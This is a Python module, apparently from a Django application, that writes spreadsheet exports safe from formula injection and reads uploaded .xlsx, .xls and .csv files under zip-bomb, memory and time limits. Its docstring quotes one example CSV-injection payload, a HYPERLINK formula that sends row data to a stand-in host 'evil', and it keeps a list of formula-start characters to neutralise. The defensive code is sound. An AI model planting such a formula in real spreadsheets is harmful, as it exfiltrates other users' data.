"""Spreadsheets in one place, both ways: .xlsx written; .xlsx, .xls and .csv read.

Writing (`xlsx_bytes`, `xlsx_response`): every cell goes through `cell_value`. Text a member or
staff typed is written as text, never as a formula: openpyxl stores any string that begins with
"=" as a formula, so a member's feedback `=HYPERLINK("http://evil/?"&A2, "点此")` would become a
live link that carries other rows away when staff click it. Text that begins with a character a
spreadsheet reads as the start of a formula gets a leading apostrophe (OWASP's advice for CSV
injection, which also holds when staff copy the cell out or save the sheet as CSV), and every
string cell is typed as a string.

Reading (`read_first_sheet`): a workbook is a zip of XML, and both can be made to unpack far
beyond their size (a 1 MB file whose shared strings expand to 1 GB; 98 KB of a million empty rows).
So, in order:
1. the zip's directory is checked without unpacking anything: not a zip, too many parts, more than
   `XLSX_MAX_UNPACKED_MB` in all, or one part compressed beyond reason are refused at once
   (Python's zipfile never unpacks a part beyond the size its directory declares, so the check
   holds for what openpyxl will read);
2. the sheet is parsed in a child process (`spreadsheet_reader.py`) under an address-space limit
   of `XLSX_READ_MEMORY_MB` and a time limit, reading at most `max_rows` rows (blank rows
   included) and `max_cols` columns and handing back at most `MAX_TEXT` characters; a file that
   needs more is refused and the worker that asked is untouched.

`read_table` takes what comes out of Excel and WPS as it is: an .xlsx, an Excel 97–2003 .xls (an
OLE2 file, parsed in the same child under the same limits) or a .csv in UTF-8 (with or without
its byte-order mark) or GBK/GB18030, separated by commas or tabs; the kind is told by the
file's first bytes, not its name.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import logging
import struct
import subprocess
import sys
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

from django.conf import settings
from django.http import HttpResponse
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.utils import get_column_letter

from .errors import DomainError

log = logging.getLogger(__name__)

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# -- writing ------------------------------------------------------------------------------------

# What Excel, WPS and LibreOffice take as the start of a formula (OWASP, CSV injection), and the
# full-width forms a Chinese input method types, which some of them also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_AS_IS = (bool, int, float, Decimal, dt.date, dt.time, dt.timedelta)


def cell_value(value):
    """`value` as it may go into a cell: numbers, dates and empty cells as they are; anything else
    as text without the control characters a workbook cannot hold, with an apostrophe in front
    when it would otherwise read as a formula. An aware time becomes local time (a workbook has
    no time zones, and staff read local time)."""
    if value is None:
        return None
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, _AS_IS):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SheetWriter:
    """One sheet of a write-only workbook; every row appended goes through `cell_value`."""

    def __init__(self, book: Workbook, title: str, *, widths: Sequence[float] = ()):
        self.sheet = book.create_sheet(str(title)[:31])
        for i, width in enumerate(widths, start=1):
            self.sheet.column_dimensions[get_column_letter(i)].width = width

    def _cell(self, value):
        value = cell_value(value)
        if not isinstance(value, str):
            return value
        cell = WriteOnlyCell(self.sheet, value=value)
        cell.data_type = "s"  # not "f", nor "e" for text that looks like #N/A
        return cell

    def append(self, row: Iterable) -> None:
        self.sheet.append([self._cell(v) for v in row])


def xlsx_bytes(
    title: str, header: Iterable, rows: Iterable[Iterable], *, widths: Sequence[float] = ()
) -> bytes:
    """A workbook of one sheet: a header row, then the rows."""
    book = Workbook(write_only=True)
    sheet = SheetWriter(book, title, widths=widths)
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_response(
    filename: str, sheet_title: str, header: Iterable, rows: Iterable[Iterable]
) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(sheet_title, header, rows), content_type=XLSX)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# -- reading ------------------------------------------------------------------------------------

READER = Path(__file__).with_name("spreadsheet_reader.py")
READ_SECONDS = 120.0
# Characters handed back at most: a 20,000-row roster of nine short columns is about four million.
MAX_TEXT = 20_000_000
MAX_LINE = 10_000  # characters in one line of a .csv: a row of a roster is a few hundred
# Parts in the zip: a workbook has a dozen or two, more with many sheets or pictures.
MAX_PARTS = 1000
# A part unpacking to more than 1 MB may be at most this many times its compressed size: sheets
# and shared strings compress 5–20 times; an empty row repeated a million times, a thousand times.
MAX_RATIO = 100
RATIO_FROM = 1024 * 1024
MEMORY_EXIT = 3  # the reader's exit code when it ran out of memory


class SpreadsheetError(DomainError):
    """A spreadsheet that is refused, and why. Codes: not_xlsx, unreadable, too_large, too_many_parts,
    suspicious, too_slow."""


@dataclass
class SheetRows:
    rows: list[tuple]  # the header first; trailing empty cells dropped, so rows differ in length
    more: bool  # the sheet went on past max_rows (the rest was not read)


def read_first_sheet(data: bytes, *, max_rows: int, max_cols: int = 64) -> SheetRows:
    """The first sheet's values, at most `max_rows` rows of `max_cols` columns. Raises
    SpreadsheetError for a file that is not a workbook or would take more than its limits."""
    check_xlsx(data)
    return _read_in_child(data, max_rows=max_rows, max_cols=max_cols)


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # the start of every Excel 97–2003 workbook


def read_table(data: bytes, *, max_rows: int, max_cols: int = 64) -> SheetRows:
    """The first sheet of an .xlsx or .xls (read in the child process, with the limits of
    `read_first_sheet`), or the rows of a .csv (plain text: read here, under the same row, column
    and text limits and a limit on the length of a line)."""
    if data.startswith(b"PK\x03\x04"):
        return read_first_sheet(data, max_rows=max_rows, max_cols=max_cols)
    if len(data) > settings.XLSX_MAX_UNPACKED_MB * 1024 * 1024:
        raise _too_large()
    if data.startswith(OLE2):
        return _read_in_child(data, max_rows=max_rows, max_cols=max_cols, kind="xls")
    return read_csv(data, max_rows=max_rows, max_cols=max_cols)


def decode_text(data: bytes) -> str:
    """A text file as Excel and WPS save it in China: UTF-8 (Excel's "CSV UTF-8" adds a BOM) or
    GB18030, which contains GBK (Excel's plain "CSV" on a Chinese Windows)."""
    for encoding in ("utf-8-sig", "gb18030"):
        try:
            text = data.decode(encoding)
        except UnicodeDecodeError:
            continue
        if "\x00" not in text:
            return text
    raise SpreadsheetError(
        "unreadable", _("文件无法读取：请上传 Excel 文件（.xlsx 或 .xls），或 UTF-8 / GBK 编码的 .csv 文件")
    )


def read_csv(data: bytes, *, max_rows: int, max_cols: int = 64) -> SheetRows:
    import csv

    text = decode_text(data)
    if any(len(line) > MAX_LINE for line in text.splitlines()):
        raise SpreadsheetError(
            "unreadable",
            _("文件中有一行长得不像花名册（超过 %(n)d 个字）：请在 Excel 或 WPS 中打开，确认无误后另存")
            % {"n": MAX_LINE},
        )
    sample = text[:4096]
    delimiter = "\t" if sample.count("\t") > sample.count(",") else ","
    rows: list[tuple] = []
    size = 0
    try:
        # strict: a quote left open is an error, not the rest of the file swallowed into one cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True):
            if len(rows) == max_rows:
                return SheetRows(rows=rows, more=True)
            values = [v if v.strip() else None for v in row[:max_cols]]
            while values and values[-1] is None:
                values.pop()
            size += sum(len(v) for v in values if v)
            if size > MAX_TEXT:
                raise SpreadsheetError("too_large", _("文件中的文字过多，超出读取上限：请分成几个文件上传"))
            rows.append(tuple(values))
    except csv.Error:
        raise SpreadsheetError(
            "unreadable", _("文件无法读取：CSV 文件的引号不成对，请在 Excel 或 WPS 中打开后重新保存")
        ) from None
    return SheetRows(rows=rows, more=False)


def _too_large() -> SpreadsheetError:
    return SpreadsheetError(
        "too_large",
        _("文件解压后超过 %(mb)d MB：请删除多余的工作表、图片或空行，或分成几个文件上传")
        % {"mb": settings.XLSX_MAX_UNPACKED_MB},
    )


def _not_xlsx() -> SpreadsheetError:
    return SpreadsheetError(
        "not_xlsx", _("文件不是 Excel (.xlsx) 格式：请在 Excel 或 WPS 中另存为 .xlsx 后再上传")
    )


def _declared_directory(data: bytes) -> tuple[int, int] | None:
    """(parts, directory size in bytes) from the zip's end record, read before zipfile builds an
    object for every part the directory lists; None if there is no end record."""
    at = data.rfind(b"PK\x05\x06", max(0, len(data) - 65_557))  # the record, and a comment of up to 64 KB
    if at < 0 or len(data) < at + 22:
        return None
    parts, size = struct.unpack_from("<HL", data, at + 10)
    return parts, size  # zip64 writes 0xFFFF and 0xFFFFFFFF here: both count as too many


def check_xlsx(data: bytes) -> None:
    """Step 1: refuse from the zip's directory alone, unpacking nothing."""
    cap = settings.XLSX_MAX_UNPACKED_MB * 1024 * 1024
    if len(data) > cap:
        raise _too_large()
    declared = _declared_directory(data)
    if declared is None:
        raise _not_xlsx()
    parts, directory = declared
    if parts > MAX_PARTS or directory > MAX_PARTS * 1024:
        raise SpreadsheetError(
            "too_many_parts", _("文件内部的组成部分过多（可能是恶意构造的文件），已拒绝读取")
        )
    try:
        infos = zipfile.ZipFile(io.BytesIO(data)).infolist()
    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, EOFError, ValueError, struct.error):
        raise _not_xlsx() from None
    if len(infos) > MAX_PARTS:
        raise SpreadsheetError(
            "too_many_parts", _("文件内部的组成部分过多（可能是恶意构造的文件），已拒绝读取")
        )
    if sum(i.file_size for i in infos) > cap:
        raise _too_large()
    for info in infos:
        if info.file_size > RATIO_FROM and info.file_size > MAX_RATIO * max(info.compress_size, 1):
            raise SpreadsheetError("suspicious", _("文件的压缩比异常（可能是恶意构造的文件），已拒绝读取"))


def _decode(obj: dict):
    """The reader writes dates and times as {"datetime": iso} and the like."""
    if "datetime" in obj:
        return dt.datetime.fromisoformat(obj["datetime"])
    if "date" in obj:
        return dt.date.fromisoformat(obj["date"])
    if "time" in obj:
        return dt.time.fromisoformat(obj["time"])
    if "seconds" in obj:
        return dt.timedelta(seconds=obj["seconds"])
    return obj


def _read_in_child(data: bytes, *, max_rows: int, max_cols: int, kind: str = "xlsx") -> SheetRows:
    """Step 2. `-P`: the reader's own folder is not put on the import path (it holds modules
    named like the standard library's); it imports only its reader (openpyxl or xlrd) and the
    standard library."""
    command = [
        sys.executable,
        "-P",
        str(READER),
        str(settings.XLSX_READ_MEMORY_MB),
        str(max_rows),
        str(max_cols),
        str(MAX_TEXT),
        kind,
    ]
    try:
        done = subprocess.run(command, input=data, capture_output=True, timeout=READ_SECONDS, check=False)
    except subprocess.TimeoutExpired:
        raise SpreadsheetError(
            "too_slow", _("文件读取超时：请删除多余的工作表或空行，或分成几个文件上传")
        ) from None
    if done.returncode == MEMORY_EXIT or done.returncode == -9:  # its own limit, or the kernel's
        raise SpreadsheetError(
            "too_large",
            _("文件内容过多，读取时超出内存上限：请删除多余的工作表、图片或空行，或分成几个文件上传"),
        )
    try:
        answer = json.loads(done.stdout, object_hook=_decode) if done.returncode == 0 else {}
    except ValueError:
        answer = {}
    if "rows" in answer:
        return SheetRows(rows=[tuple(r) for r in answer["rows"]], more=bool(answer["more"]))
    if answer.get("error") == "too_much_text":
        raise SpreadsheetError("too_large", _("文件中的文字过多，超出读取上限：请分成几个文件上传"))
    # The reason stays in the log (an exception's name, never the file's content).
    log.warning("spreadsheet not readable: exit %s, %s", done.returncode, answer.get("kind", "no answer"))
    raise SpreadsheetError(
        "unreadable", _("文件无法读取：请在 Excel 或 WPS 中打开确认无误，另存为 .xlsx 后再上传")
    )
